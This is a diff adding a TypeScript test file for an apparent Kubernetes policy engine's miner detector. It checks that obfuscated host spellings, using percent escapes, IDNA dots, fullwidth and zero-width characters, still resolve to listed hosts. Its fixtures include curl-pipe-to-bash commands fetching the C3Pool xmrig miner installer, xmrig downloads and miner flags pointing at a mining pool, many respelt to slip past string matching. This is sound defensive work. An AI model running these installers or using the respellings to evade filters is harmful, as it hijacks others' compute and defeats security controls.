@@ -1,0 +1,222 @@
+// Hosts spelt so that a string match misses them but curl, wget, Python or Node look up the
+// listed host: percent escapes in a URL's host, IDNA's other dots (`。` `．` `｡`), fullwidth and
+// compatibility letters, soft hyphens and zero-width characters. What each tool does was checked
+// against curl 7.88.1 (libidn2 2.3.3) and GNU wget 1.21.3 on Debian 12, and Node's and Python's
+// resolvers (docs/detection.md, "Host spellings"). A spelling the tools refuse needs no rule.
+import { domainToASCII } from 'node:url'
+import fc from 'fast-check'
+import t from 'tap'
+import { hostsAsResolved, mayHaveRespeltHosts, mayMapIntoAsciiHost } from '../../src/detect/host-spellings.ts'
+import { BUDGET_REFUSAL } from '../../src/detect/review-budget.ts'
+import { compileSignalScanner, type ScannedText, type Signal } from '../../src/detect/signals.ts'
+import { evaluate } from '../../src/engine/evaluate.ts'
+import type { V1Container } from '../../src/workloads/kubernetes.ts'
+import { fuzzRuns } from '../helpers/fuzz.ts'
+import { growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'
+import { defaultPolicies } from '../helpers/server.ts'
+import { defaultSignalData } from '../helpers/signal-data.ts'
+
+const policySet = await defaultPolicies()
+const signalData = await defaultSignalData()
+const gated = compileSignalScanner(signalData)
+const ungated = compileSignalScanner(signalData, { ungated: true })
+
+function findings(container: Partial<V1Container>): { action: string; message: string }[] {
+  const object = {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'p', namespace: 'ns' },
+    spec: { containers: [{ name: 'c', image: 'debian:12-slim', ...container }] },
+  }
+  return evaluate({ object }, policySet)
+    .findings.filter((finding) => finding.policy === 'miner-signals')
+    .map(({ action, message }) => ({ action, message }))
+}
+
+const SETUP = '/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'
+const RELEASE = '/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz'
+
+t.test('an installer host spelt with escapes or IDNA characters curl and wget resolve is still a listed installer', async (t) => {
+  for (const command of [
+    `curl -sL https://raw%2egithubusercontent%2ecom${SETUP} | bash -s worker1`,
+    `curl -sL raw%2Egithubusercontent.com${SETUP} | bash`,
+    `curl -sL https://r%61w.githubusercontent.com${SETUP} | bash`,
+    `curl -sL https://raw.githubusercontent%E3%80%82com${SETUP} | bash`,
+    `curl -sL https://raw.githubusercontent\u3002com${SETUP} | bash`,
+    `wget -qO- https://raw.githubusercontent\uff0ecom${SETUP} | bash`,
+    `curl -sL https://raw.githubusercontent\uff61com${SETUP} | bash`,
+    `curl -sL https://\uff52\uff41\uff57\uff0e\uff47\uff49\uff54\uff48\uff55\uff42\uff55\uff53\uff45\uff52\uff43\uff4f\uff4e\uff54\uff45\uff4e\uff54\uff0e\uff43\uff4f\uff4d${SETUP} | bash`,
+    `wget https://git\u00adhub.com${RELEASE}`,
+    `wget https://gi\u200dthub.com${RELEASE}`,
+    `curl -LO https://git\u200bhub\u3002com${RELEASE}`,
+    `curl -LO https://\u{1d420}ithub.com${RELEASE}`,
+    `curl -LO https://GIT\uff28UB%2eCOM${RELEASE}`,
+  ]) {
+    const found = findings({ command: ['sh', '-c', command] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(command)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, /downloads a miner installer from/, JSON.stringify(command))
+  }
+})
+
+t.test('a pool spelt with IDNA characters is the pool a Node or Python miner looks up', async (t) => {
+  for (const host of [
+    'pool.supportxmr\u3002com',
+    'pool.supportxmr\uff0ecom',
+    'pool.\uff53\uff55\uff50\uff50\uff4f\uff52\uff54xmr.com',
+    'pool.support\u00adxmr.com',
+  ]) {
+    const found = findings({ command: ['/opt/svc', '-o', `${host}:443`, '-u', 'worker1'] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(host)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, /\(IDN-mapped\): mining pool "pool\.supportxmr\.com"/, JSON.stringify(host))
+  }
+})
+
+t.test('spellings curl refuses, and escapes a miner does not decode, need no rule and add nothing', async (t) => {
+  // curl: "URL using bad/illegal format" (U+2024 is disallowed in IDNA; a decoded `/` is no host character).
+  t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent\u2024com${SETUP} | bash`] }), [])
+  t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent.com%2fC3Pool/xmrig_setup/x.sh -o x.sh`] }), [])
+  t.equal(hostsAsResolved(`curl https://raw.githubusercontent.com%2fC3Pool/x`, true), `curl https://raw.githubusercontent.com%2fC3Pool/x`)
+  // A miner resolves the name as written: `%2e` is no dot to it, and the stratum URL is what counts.
+  t.same(findings({ command: ['/opt/svc', '-o', 'pool.supportxmr%2ecom:443', '-u', 'worker1'] }), [])
+})
+
+t.test('prose and hosts in other scripts are admitted: only what maps to a listed host counts', async (t) => {
+  t.same(
+    findings({
+      env: [{ name: 'MESSAGE', value: '設定を読み込みました。サーバーを起動します。詳細は https://例え.jp/ja/docs を参照。' }],
+      command: ['/app/server', '--greeting=\uff28\uff45\uff4c\uff4c\uff4f\uff0e', '--docs=https://ドメイン名例。jp/'],
+    }),
+    [],
+  )
+  t.same(findings({ command: ['sh', '-c', 'curl -s "https://api.example.com/search?q=%E3%81%82%2ecom&limit=10" -o /srv/result.json'] }), [])
+})
+
+t.test('every code point UTS #46 maps into an ASCII host is read as Node reads it', async (t) => {
+  let mapped = 0
+  const differing: string[] = []
+  for (let code = 0x80; code <= 0x10ffff; code++) {
+    if (code >= 0xd800 && code <= 0xdfff) continue
+    const character = String.fromCodePoint(code)
+    const host = `a${character}b.example.com`
+    const looked = domainToASCII(host)
+    // Refused, a real IDN label, or mapped to what no host holds (`⑴` to `(1)`): no listed host.
+    if (looked === '' || looked.includes('xn--') || !/^[a-z0-9.-]+$/.test(looked)) continue
+    mapped++
+    if (hostsAsResolved(`curl https://${host}/x`) !== `curl https://${looked}/x`) differing.push(code.toString(16))
+    if (!mayHaveRespeltHosts(host)) differing.push(`gate ${code.toString(16)}`)
+  }
+  t.ok(mapped > 1000, `${mapped} code points map into ASCII`)
+  t.same(differing, [])
+})
+
+t.test('a Latin-1 character the gate turns away changes no host', async (t) => {
+  for (let code = 0x80; code <= 0xff; code++) {
+    const host = `curl https://a${String.fromCharCode(code)}b.example.com/x`
+    if (!mayHaveRespeltHosts(host)) t.equal(hostsAsResolved(host), host, code.toString(16))
+  }
+})
+
+const piece = fc.oneof(
+  { weight: 3, arbitrary: fc.string({ maxLength: 6 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 3 }) },
+  {
+    weight: 6,
+    arbitrary: fc.constantFrom(
+      'pool.supportxmr',
+      'raw.githubusercontent',
+      '\u3002com',
+      '\uff0e',
+      '\uff61',
+      '.com',
+      '\u00ad',
+      '\u00aa',
+      '\u00e9',
+      '\u200d',
+      '\uff53',
+      '%2e',
+      '%E3%80%82',
+      '/',
+      '//',
+      ' ',
+      ':3333',
+      '\u{1d420}',
+    ),
+  },
+)
+
+t.test('over random texts, a closed gate means no host is respelt, and the gated scanner finds what the ungated one finds', async (t) => {
+  const text = fc.array(piece, { maxLength: 10 }).map((pieces) => pieces.join(''))
+  t.doesNotThrow(() =>
+    fc.assert(
+      fc.property(text, (given) => mayHaveRespeltHosts(given) || hostsAsResolved(given) === given),
+      { seed: 20261202, numRuns: fuzzRuns(2000) },
+    ),
+  )
+  const signals = (scan: typeof gated, given: string[]) => {
+    const found: Signal[] = []
+    scan(
+      given.map((text, index): ScannedText => ({ field: `args[${index}]`, text })),
+      found,
+    )
+    return JSON.stringify(found)
+  }
+  t.doesNotThrow(() =>
+    fc.assert(
+      fc.property(fc.array(text, { minLength: 1, maxLength: 3 }), (given) => signals(gated, given) === signals(ungated, given)),
+      { seed: 20261202, numRuns: fuzzRuns(1000) },
+    ),
+  )
+})
+
+t.test('reading hosts as looked up stays linear: one long host, many hosts, path segments, escapes', async (t) => {
+  for (const [unit, percent] of [
+    ['\uff53\u3002', false],
+    ['\uff41\u3002\uff42 ', false],
+    ['pool.supportxmr\u3002com ', false],
+    ['/\u00e9.', false],
+    ['a\u00ad\u200b.', false],
+    ['a%2e', true],
+    ['%E3%80%82', true],
+    ['x%2e%2f ', true],
+  ] as const) {
+    const ratio = growthRatio(
+      (size) => repeatedTo(unit, size),
+      (text) => hostsAsResolved(text, percent),
+    )
+    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)}`)
+  }
+})
+
+t.test('the ranges of characters that may fold into an ASCII host hold every one NFKC folds so', async (t) => {
+  const missing: string[] = []
+  for (let code = 0x80; code <= 0x10ffff; code++) {
+    if (code >= 0xd800 && code <= 0xdfff) continue
+    const folded = String.fromCodePoint(code).normalize('NFKC').toLowerCase()
+    if (/^[a-z0-9.-]+$/.test(folded) && !mayMapIntoAsciiHost(code)) missing.push(code.toString(16))
+  }
+  t.same(missing, [])
+})
+
+t.test('a pod of a million short fullwidth hosts is refused for the cost of folding them, not read for seconds', async (t) => {
+  const found = findings({ args: ['\uff41\u3002\uff42 '.repeat(200_000)] })
+  t.equal(found[0]?.action, 'deny')
+  t.match(found[0]?.message, BUDGET_REFUSAL)
+})
+
+t.test('ẞ is read as ss, as curl with libidn2 2.3.3 looks it up (Unicode 16 tables keep ß)', async (t) => {
+  t.equal(hostsAsResolved('curl -s http://cla\u1e9e.example/x'), 'curl -s http://class.example/x')
+})
+
+t.test('a character NFKC folds into a dot (U+2024, ⒈, ㏂) makes no host: IDNA refuses it, and the run stays as written', async (t) => {
+  const folding: string[] = []
+  for (let code = 0x80; code <= 0x10ffff; code++) {
+    if ((code >= 0xd800 && code <= 0xdfff) || code === 0x3002 || code === 0xff0e || code === 0xff61) continue
+    const character = String.fromCodePoint(code)
+    if (!character.normalize('NFKC').includes('.')) continue
+    folding.push(code.toString(16))
+    const text = `curl https://raw.github${character}usercontent.com/x`
+    t.equal(hostsAsResolved(text), text, code.toString(16))
+    t.equal(domainToASCII(`raw.github${character}usercontent.com`), '', `Node refuses ${code.toString(16)} too`)
+  }
+  t.ok(folding.length > 20, `${folding.length} such characters`)
+})
